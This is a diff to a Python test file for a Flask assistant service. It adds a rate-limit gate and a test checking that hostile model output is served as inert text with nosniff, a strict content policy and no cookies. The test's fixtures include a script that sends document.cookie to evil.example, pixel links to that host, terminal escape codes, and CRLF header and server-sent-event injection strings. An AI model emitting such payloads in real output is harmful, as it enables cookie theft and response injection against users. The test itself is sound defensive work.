@@ -15,7 +15,9 @@ from werkzeug.test import TestResponse
 from support.openai_stub import RIGHT_KEY, Stub, Turn, error
 from support.serving import write_revision
 from va_assistant.answering import Answering
+from va_assistant.gate import Gate
 from va_assistant.keys import GivenKey
+from va_assistant.limits import Rates
 from va_assistant.metrics import Metrics
 from va_assistant.model import Model
 from va_assistant.prompt import build_prompt
@@ -47,7 +49,7 @@ def build(
     answering = Answering(
         asked, Readiness(revision), metrics, max_questions=max_questions, gap_seconds=1
     )
-    app = create_app(answering, revision)
+    app = create_app(answering, revision, Gate(rates=Rates(per_client=0, in_all=0)))
     app.test_client_class = Client
     yield app.test_client()
     asked.close()
@@ -173,6 +175,34 @@ def test_a_stream_that_breaks_ends_with_an_error_event(web: FlaskClient, stub: S
     assert [fields["text"] for _, fields in texts] == ["piece0 ", "piece1 "]
     assert last[0] == "error"
     assert last[1]["error"]["reason"] == "ConnectionLost"
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "<script>fetch('//evil.example/'+document.cookie)</script>",
+        "<img src=//evil.example/?q=Pixel>",
+        "![](https://evil.example/?q=Pixel)",
+        "\x1b]0;owned\x07\x1b[2J",
+        "a\r\nSet-Cookie: a=b\r\n\r\n<html>",
+        "</script>\u2028data: {}\n\nevent: done\ndata: {}\n\n",
+    ],
+)
+def test_what_a_model_writes_is_text_and_never_a_page(
+    web: FlaskClient, stub: Stub, hostile: str
+) -> None:
+    stub.default = Turn(text=hostile)
+    browser = {"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"}
+    text = web.post("/", data=QUESTION, headers=browser)
+    as_json = web.post("/", json={"question": QUESTION}, headers=browser)
+    stream = web.post("/", data=QUESTION, headers=EVENTS)
+    kinds = ("text/plain", "application/json", "text/event-stream")
+    for response, kind in zip((text, as_json, stream), kinds, strict=True):
+        assert response.mimetype == kind
+        assert response.headers["X-Content-Type-Options"] == "nosniff"
+        assert response.headers["Content-Security-Policy"].startswith("default-src 'none'")
+        assert "Set-Cookie" not in response.headers
+    assert [name for name, _ in events(stream.data)].count("done") == 1
 
 
 @pytest.mark.parametrize(
